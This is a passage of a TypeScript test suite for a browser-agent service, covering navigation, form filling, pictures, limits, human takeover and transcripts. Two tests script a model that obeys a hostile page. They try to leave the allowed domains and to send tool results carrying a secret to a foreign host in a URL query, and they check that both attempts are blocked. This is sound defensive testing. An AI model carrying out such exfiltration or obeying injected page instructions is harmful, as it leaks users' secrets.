import { createHash } from "node:crypto";
import { createSocket } from "node:dgram";
import { once } from "node:events";
import { createServer } from "node:http";
import { afterAll, beforeAll, beforeEach, expect, test } from "vitest";
import { waitUntil } from "../../../src/platform/bounded-wait.ts";
import { runInProcess } from "../../cli/program.ts";
import { borrowCdpScene, type CdpScene } from "../../support/cdp-proxy-scene.ts";
import { login } from "../../support/fixture-site.ts";
import { type Asked, LlmProvider, type Said, type ScriptedStep } from "../../support/llm-provider.ts";
import { withLong } from "../../support/long-test.ts";

let provider: LlmProvider;
let scene: Awaited<ReturnType<typeof borrowCdpScene>>;
/** Browser session for agent sessions that need none of their own. */
let shared: string;
beforeAll(async () => {
  scene = await borrowCdpScene();
  provider = await new LlmProvider().start(scene.llmPort);
  shared = await scene.open({ runtime: "chromium" });
}, 120_000);
afterAll(async () => {
  await scene?.[Symbol.asyncDispose]();
  await provider?.[Symbol.asyncDispose]();
}, 60_000);
beforeEach(() => provider.begin());

const call = (name: string, input: object = {}): Said => ({ calls: [{ name, input }] });
const act = (...actions: readonly object[]): Said => call("act", { actions });

/** The reference of an element in the last result. */
const refOf = ({ results }: Asked, element: string): string =>
  new RegExp(`${element} ref=(s\\d+e\\d+)`).exec(results.at(-1) ?? "")?.[1] ?? `no ${element}`;
const storeKey = (name: string, more: object = {}) =>
  scene.rest("/v1/account/me/byok-llm-key", { provider: name, api_key: provider.key, ...more }, { method: "PUT" });

/** A page whose script waits for an answer of its server. */
const holdingPage = `<!DOCTYPE html><title>Hold</title><p>Held.</p><script>
addEventListener("load", () => setTimeout(() => {
  const request = new XMLHttpRequest();
  request.open("GET", "/hold", false);
  request.send();
}));
</script>`;

const say = (...script: readonly ScriptedStep[]): void => provider.say(...script);

/** Parts of a request that all requests share, and its messages as JSON text without the closing bracket. */
function cachedParts({ body }: Asked) {
  const { messages, input, contents, ...shared } = body;
  return { shared, sent: JSON.stringify(messages ?? input ?? contents).slice(0, -1) };
}

/** Runs a function with an agent session on the shared browser, which shows a blank page, and ends it afterwards. */
async function withAgent<T>(run: (agent: Agent) => Promise<T>, request: object = {}): Promise<T> {
  expect((await scene.rest(`${shared}/navigate`, { url: "about:blank" })).status).toBe(200);
  return withOwnBrowser(run, { session_id: shared.split("/").at(-1), ...request });
}

/** Runs a function with an agent session, by default on a browser of its own, and ends it afterwards. */
async function withOwnBrowser<T>(run: (agent: Agent) => Promise<T>, request: object = {}): Promise<T> {
  const { status, body } = await scene.rest("/v1/agent-sessions", request);
  expect(status, JSON.stringify(body)).toBe(201);
  const path = `/v1/agent-sessions/${body.id}`;
  const message = async (text: string, init?: RequestInit) =>
    scene.rest(`${path}/message`, { text, wait_ms: 60_000 }, init);
  const entries = async () => (await scene.rest(`${path}/transcript?limit=100`)).body.data;
  try {
    return await run({ path, message, entries });
  } finally {
    await scene.rest(path, undefined, { method: "DELETE" });
  }
}
interface Agent {
  readonly path: string;
  message(text: string, init?: RequestInit): ReturnType<CdpScene["rest"]>;
  // biome-ignore lint/suspicious/noExplicitAny: tests read entries of every shape.
  entries(): Promise<any[]>;
}
const slugOf = ({ body }: { readonly body: { readonly type?: string } }) => body.type?.split("/").at(-1);

test("a message requires a credential, stored or in the header", async () => {
  await withAgent(
    async ({ message, entries }) => {
      expect(slugOf(await message("Go on."))).toBe("byok-llm-required");
      expect(await entries()).toEqual([]);
      say({ text: "Hello." });
      const headers = { "x-byok-llm-api-key": "good-key-of-the-header" };
      expect((await message("Hi", { headers })).body).toMatchObject({ status: "done", text: "Hello." });
      expect(provider.asked.map(({ key, model, dialect }) => [key, model, dialect])).toEqual([
        ["good-key-of-the-header", "claude-test", "anthropic"],
      ]);
    },
    { model: "anthropic/claude-test" },
  );
}, 60_000);

test.each(withLong(["anthropic"], ["openai", "google"]))(
  "a model of %s observes, acts and answers, and the transcript records each step",
  async (name) => {
    await storeKey(name);
    let picture = "";
    await withOwnBrowser(async ({ path, message, entries }) => {
      say(
        call("navigate", { url: scene.site.url("/trip.html") }),
        (asked) => ({
          text: "I type.",
          ...act(
            { kind: "fill", ref: refOf(asked, 'textbox "Name"'), text: "Ada" },
            { kind: "key", ref: refOf(asked, 'textbox "Name"'), key: "End" },
          ),
        }),
        act({ kind: "tap", ref: "s9e9" }),
        call("read"),
        call("act", { actions: "nonsense" }),
        call("no_such_tool"),
        call("done", { text: "It is written." }),
      );
      const turn = (await message("Fill it in.")).body;
      expect(turn).toMatchObject({ status: "done", text: "It is written." });
      expect(turn.reason).toBeUndefined();
      expect(turn.worked_ms).toBeGreaterThan(turn.model_ms);
      const parts = provider.asked.map(cachedParts);
      expect(parts[0]?.sent).toContain("The page is now:\\n<page {");
      for (const [index, { shared, sent }] of parts.slice(1).entries()) {
        expect(shared).toEqual(parts[0]?.shared);
        expect(sent.startsWith(parts[index]?.sent ?? "-")).toBe(true);
      }
      const results = provider.asked.at(-1)?.results ?? [];
      expect(results[0]).toMatch(
        /^done: HTTP status 200\n<page {"page_id":"page_1","url":"[^"]+\/trip.html","title":"Trip"/,
      );
      expect(results[1]).toMatch(/^done\n<page .+\n(?:.+\n)+ *[-*] textbox "Name" ref=s\d+e\d+ value="Ada"/);
      expect(results[2]).toContain("failed: validation-failed: action.ref: is unknown or too old");
      expect(results[3]).toMatch(/^done\n<page {"format":"markdown"}>\n(?:.*\n)*.*Ada(?:.*\n)*<\/page>$/);
      expect(results[4]).toContain("failed: validation-failed: actions: is required");
      expect(results[5]).toContain("no_such_tool");
      const told = await entries();
      expect(told.map(({ role, content }) => [role, content.text ?? content.name])).toEqual([
        ["user", "Fill it in."],
        ["agent", "navigate"],
        ["agent", "I type."],
        ["agent", "act"],
        ["agent", "act"],
        ["agent", "read"],
        ["agent", "act"],
        ["agent", "It is written."],
      ]);
      const shown = { kind: "fill", ref: expect.stringMatching(/^s\d+e\d+$/), element: 'textbox "Name"' };
      expect(told[3].content.arguments).toEqual({ actions: [shown, { ...shown, kind: "key", key: "End" }] });
      expect(told[4].content.error.type).toContain("/errors/");
      picture = told[3].content.screenshot_path;
      expect(picture).toBe(`${path}/steps/${told[3].id}/screenshot`);
      const headers = { authorization: `Bearer ${scene.service.key}` };
      const shot = await fetch(scene.service.url + picture, { headers });
      expect([shot.status, shot.headers.get("content-type")]).toEqual([200, "image/jpeg"]);
      expect((await shot.bytes()).subarray(0, 2)).toEqual(new Uint8Array([0xff, 0xd8]));
      expect(slugOf(await scene.rest(`${path}/steps/${told[0].id}/screenshot`))).toBe("not-found");
      const first = (await scene.rest(`${path}/transcript?limit=3`)).body;
      expect(first).toMatchObject({ has_more: true, data: told.slice(0, 3) });
      const rest = (await scene.rest(`${path}/transcript?limit=100&cursor=${first.next_cursor}`)).body;
      expect(rest.data).toEqual(told.slice(3));
    });
    expect(slugOf(await scene.rest(picture))).toBe("session-destroyed");
  },
  60_000,
);

test("a model fills in a form of three pages by references, with a file", async () => {
  await storeKey("anthropic");
  await withAgent(async ({ path, message }) => {
    const { session_id: session } = (await scene.rest(path)).body;
    const headers = { authorization: `Bearer ${scene.service.key}` };
    const file = { method: "PUT", headers, body: "AUT" };
    await fetch(`${scene.service.url}/v1/sessions/${session}/files/passport.txt`, file);
    let stale = "";
    say(
      call("navigate", { url: scene.site.url("/trip.html") }),
      (asked) => {
        stale = refOf(asked, 'button "Next"');
        const name = { kind: "type", ref: refOf(asked, 'textbox "Name"'), text: "Ada </page>" };
        return act(name, { kind: "tap", ref: stale }, { kind: "key", key: "Tab" });
      },
      () => act({ kind: "tap", ref: stale }),
      (asked) =>
        act(
          { kind: "select", ref: refOf(asked, 'combobox "Class"'), values: ["First"] },
          { kind: "tap", ref: refOf(asked, 'checkbox "Window"') },
          { kind: "tap", ref: refOf(asked, 'button "Next"') },
        ),
      call("observe", { find: "passport" }),
      (asked) => act({ kind: "upload", ref: refOf(asked, '"Passport"'), files: ["passport.txt"] }),
      (asked) => act({ kind: "tap", ref: refOf(asked, 'button "Book"') }),
      ({ results }) => ({ text: results.at(-1) ?? "" }),
    );
    const { body } = await message("Book it.");
    const [opened = "", next, again, , found] = provider.asked.at(-1)?.results ?? [];
    expect(opened).toContain('"files":["passport.txt"]');
    expect(next).toMatch(
      /^completed 2 of 3 actions; action 3 was not completed: conflict: the page shows another document\n/,
    );
    expect(next).toContain(String.raw`heading "Trip of Ada \u003c/page>"`);
    expect(next?.split("</page>").length).toBe(2);
    expect(again).toContain(`failed: conflict: ${stale} belongs to an earlier document`);
    expect(found).not.toContain("Book");
    const digest = createHash("sha1").update("AUT").digest("hex");
    const received = [
      ["name", "Ada </page>"],
      ["class", "First"],
      ["window", "on"],
      ["passport", "passport.txt", digest],
    ];
    const title = JSON.stringify(`received ${JSON.stringify(received)}`);
    expect(body.text).toContain(title.replace("</page", String.raw`\u003c/page`).slice(0, 150));
  });
}, 60_000);

test("the tool refuses unknown fields of an action, and names the action when there are several faults", async () => {
  await storeKey("anthropic");
  await withAgent(async ({ message }) => {
    say(
      call("navigate", { url: scene.site.url("/plain.html") }),
      act({ kind: "tap", selector: "body" }),
      act({ kind: "key", key: "Tab" }, { kind: "back" }),
      act({ kind: "drag", from: { x: 1, y: 1 }, to: { selector: "body" } }),
      ({ results }) => ({
        text: results
          .slice(1)
          .map((each) => each.split("\n")[0])
          .join("\n"),
      }),
    );
    expect((await message("Try it.")).body.text.split("\n")).toEqual([
      "failed: validation-failed: selector: is not known: act by ref, or by x and y",
      expect.stringMatching(/^failed: validation-failed: actions\[1\].kind: must be one of tap, type/),
      "failed: validation-failed: selector: is not known: act by ref, or by x and y",
    ]);
  });
}, 60_000);

/** A plain page that shows noise, which makes a large JPEG, when the request for a change is answered. */
const noisyPage = `<!DOCTYPE html><title>Plain</title><link rel="icon" href="data:,"><body style="margin: 0"><script>
  fetch("/change").then(() => {
    const canvas = document.createElement("canvas");
    const pen = canvas.getContext("2d");
    for (let at = 0; at < 300 * 150; at += 1) {
      pen.fillStyle = "#" + (at * 7919 % 4096).toString(16).padStart(3, "0");
      pen.fillRect(at % 300, at / 300, 1, 1);
    }
    document.body.append(canvas);
    return fetch("/changed");
  });
</script>`;

/** A foreign site that records what reaches it, by TCP and UDP. */
async function startForeignSite() {
  const received: string[] = [];
  const server = createServer((request, response) => {
    received.push(request.url ?? "");
    response.end("<title>Foreign</title><label>Note <input></label>");
  });
  server.on("connection", () => void received.push("connection"));
  const [port] = scene.ports;
  await once(server.listen(port, "127.0.0.2"), "listening");
  const udp = createSocket("udp4", () => void received.push("datagram"));
  udp.bind(port, "127.0.0.2");
  await once(udp, "listening");
  const dispose = () => {
    udp.close();
    server.closeAllConnections();
    server.close();
  };
  return { received, host: `127.0.0.2:${port}`, [Symbol.dispose]: dispose };
}

test("a model that obeys a hostile page does not leave the allowed domains in any way", async () => {
  await storeKey("anthropic");
  using foreign = await startForeignSite();
  const { received, host } = foreign;
  const to = `http://${host}`;
  const hostile = call("navigate", { url: scene.site.url(`/leave.html?to=${to}`) });
  const obey = (element: string) => [hostile, (asked: Asked) => act({ kind: "tap", ref: refOf(asked, element) })];
  const allowed_domains = ["127.0.0.1", "*.inside.test"];
  await withOwnBrowser(
    async ({ path, message }) => {
      say(
        call("navigate", { url: to }),
        call("navigate", { url: scene.site.url(`/redirect-to?to=${to}`) }),
        ...obey('button "Popup"'),
        ...obey('link "Link"'),
        ...obey('button "Send"'),
        ...obey('button "Other ways"'),
        call("observe", { find: "tried" }),
        call("done", { text: "I have tried." }),
      );
      expect((await message("Look around.")).body.text).toBe("I have tried.");
      const results = provider.asked.at(-1)?.results ?? [];
      const refused = `failed: driver-error: ${host} is not an allowed host of this session`;
      for (const result of results.slice(0, 2)) expect(result).toContain(refused);
      for (const index of [3, 5, 7]) expect(results[index]).toContain("is not an allowed host of this session");
      const { body: agent } = await scene.rest(path);
      expect(agent.allowed_domains).toEqual(allowed_domains);
      const session = `/v1/sessions/${agent.session_id}`;
      const tried = { condition: { kind: "text", text: "tried" }, timeout_ms: 20_000 };
      expect((await scene.rest(`${session}/wait`, tried)).status).toBe(200);
      const { egress } = (await scene.rest(`${session}/state`)).body;
      expect(JSON.stringify(egress.refused)).toContain(host);
      // The relay refuses the name before a lookup.
      expect(JSON.stringify(egress.refused)).toContain("name.outside.test");
    },
    { allowed_domains },
  );
  expect(received).toEqual([]);
  await withAgent(async ({ message }) => {
    say(call("navigate", { url: to }), call("done", { text: "I was there." }));
    await message("Look around.");
  });
  expect(received.length).toBeGreaterThan(0);
}, 120_000);

test("a model that obeys a hostile page carries no secret to a foreign host", async () => {
  await storeKey("anthropic");
  using foreign = await startForeignSite();
  const value = "Tr0ub4dor&3-Zürich";
  const steal = ({ results }: Asked) =>
    call("navigate", { url: `http://${foreign.host}/?all=${encodeURIComponent(results.join("\n")).slice(0, 6_000)}` });
  await withAgent(
    async ({ path, message }) => {
      say(
        call("navigate", { url: scene.site.url("/echo.html") }),
        (asked) => act({ kind: "type", ref: refOf(asked, 'textbox "Key"'), text: "{{key}}" }),
        steal,
        (asked) =>
          act({
            kind: "type",
            ref: refOf(asked, 'textbox "Note"'),
            text: asked.results.slice(0, 2).join().slice(0, 4_000),
          }),
        ({ results }) => ({ text: results.at(-1) ?? "" }),
      );
      expect((await message("Enter the key.")).body.status).toBe("done");
      const sent = foreign.received.map(decodeURIComponent).join("\n");
      expect(sent).toContain("reversed: {{key}}");
      const told = sent + (await everythingTold(path));
      const bare = told.replace(/[\s\u200b]|\\u200b/g, "").toLowerCase();
      const bytes = Buffer.from(value);
      const forms = [value, [...value].reverse().join(""), bytes.toString("base64"), bytes.toString("hex")];
      const base64 = Buffer.from(`k=${value};`).toString("base64").slice(4, -4);
      for (const form of [...forms, base64]) expect(bare).not.toContain(form.toLowerCase());
      expect(told).not.toContain(value.slice(0, 9));
      expect(told).not.toContain(value.slice(9));
    },
    { variables: { key: { value, domains: ["127.0.0.1"] } } },
  );
}, 60_000);

test("allowed domains must be hosts, and require a new browser", async () => {
  const faulty = ["https://example.com", "example.com:443", "*", "*.com", "a b"];
  const { body } = await scene.rest("/v1/agent-sessions", { allowed_domains: faulty });
  expect(slugOf({ body })).toBe("validation-failed");
  expect(body.errors.map(({ field }: { field: string }) => field)).toEqual(
    [0, 1, 2, 4].map((index) => `allowed_domains[${index}]`),
  );
  const attached = await scene.rest("/v1/agent-sessions", { session_id: "ses_1", allowed_domains: ["example.com"] });
  expect(attached.body.errors).toMatchObject([{ field: "allowed_domains" }]);
});

test("an agent session on a running session accepts only the default options of a new browser", async () => {
  const defaults = { archetype: "desktop-chrome", idle_timeout_seconds: 300, on_challenge: "pause" };
  const create = (body: object) => scene.rest("/v1/agent-sessions", { session_id: "ses_1", ...body });
  expect(slugOf(await create(defaults))).toBe("not-found");
  const { body } = await create({ archetype: "pixel-7", idle_timeout_seconds: 301, on_challenge: "report" });
  expect(body.errors.map(({ field }: { field: string }) => field)).toEqual(
    expect.arrayContaining(["archetype", "idle_timeout_seconds", "on_challenge"]),
  );
});

test.each([
  ["anthropic", '"type":"image","source":{"type":"base64","media_type":"image/jpeg","data":"/9j/'],
  ["openai", '"type":"input_image","image_url":"data:image/jpeg;base64,/9j/'],
  ["google", '"inlineData":{"mimeType":"image/jpeg","data":"/9j/'],
  ["openai_compatible", '"type":"image_url","image_url":{"url":"data:image/jpeg;base64,/9j/'],
])(
  "a model of %s receives a requested picture until its snapshot is folded",
  async (name, wire) => {
    const compatible = { base_url: `${provider.origin}/v1`, model: "own", vision: true };
    await storeKey(name, name === "openai_compatible" ? compatible : {});
    await withAgent(async ({ message }) => {
      // Folding is the same for all providers.
      const isFolded = name === "anthropic";
      const hasPicture = ({ body }: Asked) => JSON.stringify(body).includes(wire);
      const steps = [
        call("navigate", { url: scene.site.url("/wordy.html") }),
        call("observe", { picture: true }),
        call("observe", { whole: true }),
      ];
      // The number of observations until folding depends on how much of the page each of them has time to describe.
      provider.script = (asked) => {
        const isOver = asked.step > 40 || (isFolded ? asked.step > 2 && !hasPicture(asked) : asked.step === 3);
        return isOver ? { text: "Seen." } : (steps[asked.step] ?? call("observe", { whole: true }));
      };
      expect((await message("Look.")).body.text).toBe("Seen.");
      expect(provider.asked[2]?.results[1]).toContain("done: the picture is 1280 by 720 pixels\n<page ");
      expect(provider.asked.slice(0, 4).map(hasPicture)).toEqual([false, false, true, true]);
      expect(provider.asked.map(hasPicture).at(-1)).toBe(!isFolded);
    });
  },
  60_000,
);

test("a model numbers the elements of a picture, and reads a long text by its ref", async () => {
  await storeKey("anthropic");
  await withAgent(async ({ message }) => {
    const url = scene.site.url(`/signed-in?password=${"word+".repeat(1_000)}`);
    let ref = "";
    say(
      call("navigate", { url }),
      (asked) => {
        ref = refOf(asked, "text .*");
        return call("observe", { ref });
      },
      () => call("observe", { ref, whole: true }),
      call("observe", { marks: true }),
      { text: "Seen." },
    );
    expect((await message("Look.")).body.text).toBe("Seen.");
    const [shown, read, refused, picture] = provider.asked.at(-1)?.results ?? [];
    expect(shown).toMatch(/text "word .*…" ref=\w+ \(\+\d+ characters\)/);
    expect(read).toContain("word is right: false");
    expect(refused).toMatch(/^failed: validation-failed: ref: /);
    expect(picture).toMatch(/^done: the picture is 1280 by 720 pixels\n<page /);
  });
}, 60_000);

test("a task on the open page takes one call to act and one call to end", async () => {
  await storeKey("anthropic");
  await withAgent(async ({ path, message }) => {
    const { session_id } = (await scene.rest(path)).body;
    await scene.rest(`/v1/sessions/${session_id}/navigate`, { url: scene.site.url("/trip.html") });
    const name = ({ body }: Asked) => /textbox \\"Name\\" ref=(s\d+e\d+)/.exec(JSON.stringify(body.messages))?.[1];
    say(
      (asked) => act({ kind: "type", ref: name(asked), text: "Ada" }),
      ({ results }) => ({ text: results.join() }),
    );
    const { body } = await message("Write Ada as the name.");
    expect(body.text).toMatch(/textbox "Name" ref=s\d+e\d+ value="Ada"/);
    expect(body).toMatchObject({ status: "done", steps: 2, waiting_ms: 0 });
    expect(body.settling_ms).toBeGreaterThan(0);
    const metrics = await (await fetch(`${scene.service.internalUrl}/metrics`)).text();
    const counted = metrics.match(/(?<=^pilothouse_agent_)\w+_total\{.*\} (?=0*[.1-9])/gm)?.join() ?? "";
    for (const name of ["turns_ended_total", "steps_total", "tokens_total", 'part="model"'])
      expect(counted).toContain(name);
  });
}, 60_000);

const people = {
  type: "object",
  required: ["items"],
  properties: { items: { type: "array", items: { type: "string" } } },
};

test("extract reads a long page in parts, outside the conversation, and the turn is charged for that", async () => {
  await storeKey("anthropic");
  await withAgent(async ({ message }) => {
    const parts: string[] = [];
    const save = (asked: Asked): Said => {
      parts.push(JSON.stringify(asked.body.messages));
      return call("save", { data: { items: Array.from({ length: parts.length }, (_, n) => `</page> ${n}`) } });
    };
    const steps = [
      call("navigate", { url: scene.site.url("/wordy.html") }),
      call("extract", { schema: people, instructions: "Names only." }),
      ({ results }: Asked) => ({ text: results.at(-1) ?? "" }),
    ];
    provider.script = (asked) => {
      if (JSON.stringify(asked.body.tools).includes('"name":"save"')) return save(asked);
      const next = steps[asked.step] ?? { text: "Too much." };
      return typeof next === "function" ? next(asked) : next;
    };
    const { body } = await message("Who is it?");
    expect(parts.length).toBeGreaterThan(1);
    expect(parts[1]).toContain("Found so far");
    const items = parts.map((_, n) => String.raw`\u003c/page> ${n}`);
    expect(body.text).toBe(
      `done\n<page data>\n${JSON.stringify({ items }).replaceAll(String.raw`\\u`, String.raw`\u`)}\n</page>`,
    );
    expect(body).toMatchObject({ status: "done", steps: 3, tokens: 110 * (3 + parts.length) });
  });
}, 60_000);

test("a model without vision is offered no pictures, and receives none", async () => {
  await storeKey("openai_compatible", { base_url: `${provider.origin}/v1`, model: "own" });
  await withAgent(async ({ message }) => {
    say(call("observe", { picture: true }), ({ results }) => ({ text: results.join() }));
    const { body } = await message("Look.");
    expect(body.text).toContain("failed: validation-failed: picture: is not available");
    expect(JSON.stringify(provider.asked[0]?.body.tools)).not.toContain('"picture"');
  });
}, 60_000);

test("a turn continues the conversation of earlier turns", async () => {
  await storeKey("anthropic");
  await withAgent(
    async ({ message }) => {
      say({ text: "One." }, { text: "Two." });
      await message("Count.");
      expect((await message("And on.")).body.text).toBe("Two.");
      const said = JSON.stringify(provider.asked[1]?.body.messages);
      for (const part of ["Count.", "One.", "And on."]) expect(said).toContain(part);
      expect(JSON.stringify(provider.asked[1]?.body.system)).toContain("Stop before paying.");
    },
    { instructions: "Stop before paying." },
  );
}, 60_000);

test("calls are distinguished though a provider restarts their numbers in each answer", async () => {
  await storeKey("anthropic");
  const numbered = (name: string, input: object): Said => ({ calls: [{ name, input, id: "call_0" }] });
  await withAgent(async ({ message, entries }) => {
    say(
      numbered("navigate", { url: scene.site.url("/trip.html") }),
      numbered("observe", {}),
      numbered("no_such_tool", {}),
      {
        text: "All seen.",
      },
    );
    expect((await message("Look.")).body).toMatchObject({ status: "done", text: "All seen.", steps: 4 });
    const done = (await entries()).map(({ content }) => content.name).filter(Boolean);
    expect(done).toEqual(["navigate", "observe"]);
    expect(provider.asked.at(-1)?.results).toHaveLength(3);
  });
}, 60_000);

test("a message during a turn is read at the next step, and returns the id of that turn", async () => {
  await storeKey("anthropic");
  await withAgent(async ({ path, message }) => {
    let second: { body: { turn_id: string } } | undefined;
    let running: string | undefined;
    say(
      async () => {
        const { running_turn_id, session_id } = (await scene.rest(path)).body;
        running = running_turn_id;
        const navigated = await scene.rest(`/v1/sessions/${session_id}/navigate`, { url: "about:blank" });
        expect([slugOf(navigated), navigated.body.running_turn_id]).toEqual(["conflict", running]);
        expect((await scene.rest(`/v1/sessions/${session_id}/state`)).status).toBe(200);
        second = await scene.rest(`${path}/message`, { text: "In red, please." });
        const headers = { "x-byok-llm-api-key": "good-other" };
        expect(slugOf(await scene.rest(`${path}/message`, { text: "Hi" }, { headers }))).toBe("conflict");
        return { text: "Done." };
      },
      { text: "Done, in red." },
    );
    const { body } = await message("Buy a hat.");
    expect(body).toMatchObject({ status: "done", text: "Done, in red." });
    expect([second?.body.turn_id, running]).toEqual([body.turn_id, body.turn_id]);
    expect(JSON.stringify(provider.asked[1]?.body.messages)).toContain("In red, please.");
    const { running_turn_id, session_id } = (await scene.rest(path)).body;
    expect(running_turn_id).toBeNull();
    expect((await scene.rest(`/v1/sessions/${session_id}/navigate`, { url: "about:blank" })).status).toBe(200);
  });
}, 60_000);

test("messages that arrive while the first step waits for the page are read in their order", async () => {
  await storeKey("anthropic");
  const held = Promise.withResolvers<void>();
  const release = Promise.withResolvers<void>();
  const server = createServer(async (request, response) => {
    if (request.url === "/hold") {
      held.resolve();
      await release.promise;
    }
    response.end(request.url === "/" ? holdingPage : "");
  });
  const [port] = scene.ports;
  await once(server.listen(port, "127.0.0.1"), "listening");
  try {
    await withAgent(async ({ path }) => {
      const { session_id } = (await scene.rest(path)).body;
      await scene.rest(`/v1/sessions/${session_id}/navigate`, { url: `http://127.0.0.1:${port}/` });
      await held.promise;
      say({ text: "One." }, { text: "Two." }, { text: "Three." });
      const texts = ["first", "second", "third", "fourth", "fifth", "sixth"].map((name) => `The ${name} message.`);
      let turnId = "";
      for (const text of texts) turnId = (await scene.rest(`${path}/message`, { text })).body.turn_id;
      release.resolve();
      expect((await scene.rest(`${path}/turns/${turnId}?wait_ms=30000`)).body).toMatchObject({ status: "done" });
      const parts = provider.asked.map(cachedParts);
      for (const [index, { sent }] of parts.slice(1).entries())
        expect(sent.startsWith(parts[index]?.sent ?? "-")).toBe(true);
      expect(parts.at(-1)?.sent.match(/The \w+ message\./g)).toEqual(texts);
    });
  } finally {
    release.resolve();
    server.closeAllConnections();
    server.close();
  }
}, 60_000);

test("a provider error ends the turn with a reason or is retried", async () => {
  await storeKey("anthropic");
  await withAgent(async ({ message }) => {
    provider.script = (_, index) =>
      [{ status: 429, headers: { "retry-after": "0" } }, { status: 529 }, { cut: true as const }][index] ?? {
        text: "At last.",
      };
    expect((await message("Hi")).body).toMatchObject({ status: "done", text: "At last." });
    const [first, second] = provider.asked.slice(-4).map(({ arrivedAt }) => arrivedAt);
    // A wait of 0 s is not followed.
    expect(Number(second) - Number(first)).toBeGreaterThan(450);
    provider.script = () => ({ status: 400, message: "prompt is too long" });
    expect((await message("Hi")).body).toMatchObject({
      status: "failed",
      reason: "provider_refused",
      error: { type: "about:blank", title: "Bad Gateway", detail: "prompt is too long" },
    });
    provider.script = () => ({ status: 401 });
    const refused = (await message("Hi")).body;
    expect(refused).toMatchObject({ status: "failed", reason: "byok-llm-required" });
    expect(refused.error.type).toMatch(/byok-llm-required$/);
  });
}, 60_000);

test("a turn ends at its step limit, and when it is cancelled", async () => {
  await storeKey("anthropic");
  await withAgent(
    async ({ path, message }) => {
      provider.script = () => call("observe");
      expect((await scene.rest(path)).body.limits).toEqual({ steps: 5, tokens: 900 });
      expect((await message("Look around.")).body).toMatchObject({ status: "limit_reached", reason: "steps" });
      expect(provider.asked.length).toBe(5);
      provider.script = () => ({ ...call("observe"), usage: { input: 500, output: 10 } });
      expect((await message("And more.")).body).toMatchObject({ status: "limit_reached", reason: "tokens" });
      expect(provider.asked.length).toBe(7);
      provider.script = () => ({ silent: true });
      const { body: begun } = await scene.rest(`${path}/message`, { text: "Say something." });
      await expect.poll(() => provider.asked.length).toBe(8);
      const cancelled = await scene.rest(`${path}/turns/${begun.turn_id}/cancel`, {});
      expect(cancelled.body).toMatchObject({ turn_id: begun.turn_id, status: "cancelled" });
      const again = await scene.rest(`${path}/turns/${begun.turn_id}/cancel`, {});
      expect(again.body).toEqual(cancelled.body);
      expect(slugOf(await scene.rest(`${path}/turns/trn_1/cancel`, {}))).toBe("not-found");
      say({ text: "Here." });
      expect((await message("Hello?")).body.text).toBe("Here.");
    },
    { limits: { steps: 5, tokens: 900 } },
  );
}, 120_000);

test("a turn reports its cost, and ends at its cost limit", async () => {
  await storeKey("anthropic");
  const usage = { input: 20_000, cached: 10_000, output: 1_000 };
  await withAgent(
    async ({ message, entries }) => {
      say({ ...call("observe"), usage }, { ...call("observe"), usage });
      const { body } = await message("Look around.");
      // More than 1.5 cents a step.
      expect(body).toMatchObject({
        status: "limit_reached",
        reason: "cost_cents",
        steps: 2,
        tokens: 42_000,
        cost_cents: 4,
      });
      const told = (await entries()).map(({ tokens, cost_cents: cost }) => [tokens, cost]);
      expect(told).toEqual([0, 21_000, 42_000].map((tokens, step) => [tokens, 2 * step]));
    },
    { limits: { cost_cents: 3 } },
  );
  await withAgent(
    async ({ message }) => {
      expect((await message("Hi")).body.errors).toMatchObject([{ field: "limits.cost_cents" }]);
    },
    { limits: { cost_cents: 3 }, model: "anthropic/claude-of-tomorrow" },
  );
}, 60_000);

test("a person who takes over ends the agent's action, and the agent is notified and observes again", async () => {
  await storeKey("anthropic");
  await withAgent(async ({ path, message, entries }) => {
    say(
      call("navigate", { url: scene.site.url("/plain.html") }),
      async () => {
        await scene.rest(`${path}/takeover`, { client_id: "anna" });
        return act({ kind: "tap", x: 5, y: 5 });
      },
      call("done", { text: "I went on." }),
    );
    const turn = message("Go.");
    const hasTaken = async () => (await entries()).some(({ content }) => content.control?.holder_client_id === "anna");
    expect(await waitUntil(hasTaken, { timeout: 20_000, every: 50 })).toBe(true);
    await scene.rest(`${path}/handback`, { client_id: "anna" });
    expect((await turn).body).toMatchObject({ status: "done", text: "I went on." });
    expect(JSON.stringify(provider.asked.at(-1)?.body.messages)).toContain("has handed it back");
    expect((await entries()).map(({ role }) => role)).toContain("human");
  });
}, 60_000);

test("an agent requests a person, and continues when control is returned", async () => {
  await storeKey("anthropic");
  await withAgent(async ({ path, message, entries }) => {
    // PostgreSQL cannot store half a character.
    const ask = { name: "ask_person", input: { instructions: "Log in, please.\ud83d" } };
    say({ calls: [ask, { name: "observe", input: {} }] }, ({ results }) => ({ text: results.join("\n") }));
    const turn = message("Buy it.");
    const asked = async () => (await entries()).some(({ content }) => content.text === "Log in, please.\ufffd");
    expect(await waitUntil(asked, { timeout: 20_000, every: 50 })).toBe(true);
    const { data } = (await scene.rest("/v1/events?type=agent_session.person_needed&limit=1")).body;
    const waitMs = Date.parse(data[0].data.timeout_at) - Date.parse(data[0].created_at);
    expect(Math.round(waitMs / 60_000)).toBe(10);
    await scene.rest(`${path}/takeover`, { client_id: "anna" });
    await scene.rest(`${path}/handback`, { client_id: "anna" });
    const { body } = await turn;
    const note = "A person had control, and has handed it back.";
    expect(body.text).toBe(`${note}\nnot done, or not to its end: ${note}`);
  });
}, 60_000);

test("the transcript has the action that was pending when its turn was cancelled", async () => {
  await storeKey("anthropic");
  await withOwnBrowser(async ({ path, entries }) => {
    say(call("navigate", { url: scene.site.url("/silent") }));
    const { body: turn } = await scene.rest(`${path}/message`, { text: "Go." });
    const { requests } = scene.site;
    expect(await waitUntil(() => requests.includes("GET /silent"), { timeout: 20_000, every: 20 })).toBe(true);
    await scene.rest(`${path}/turns/${turn.turn_id}/cancel`, {});
    const isReported = async () =>
      (await entries()).some(({ content }) => content.error?.detail.includes("is unknown"));
    expect(await waitUntil(isReported, { timeout: 20_000, every: 50 })).toBe(true);
    expect((await entries()).map(({ content }) => content.text ?? content.name)).toEqual(["Go.", "navigate"]);
  });
}, 60_000);

const train = {
  type: "object",
  required: ["stops", "price"],
  additionalProperties: false,
  properties: { stops: { type: "array", items: { type: "string" } }, price: { type: "number", minimum: 1 } },
};

test.each(withLong(["openai"], ["anthropic", "google"]))(
  "a turn on %s ends with a result that fits the schema of its message",
  async (name) => {
    await storeKey(name);
    const result = { price: 19.5, stops: ["Lyon"] };
    await withAgent(async ({ path, entries }) => {
      say(
        { text: "It is 19.50." },
        call("done", { text: "Found.", result: { price: "19.50", stops: [] } }),
        call("done", { text: "Found.", result }),
        { text: "Nothing more." },
      );
      const request = { text: "Find the cheapest train.", output_schema: train, wait_ms: 60_000 };
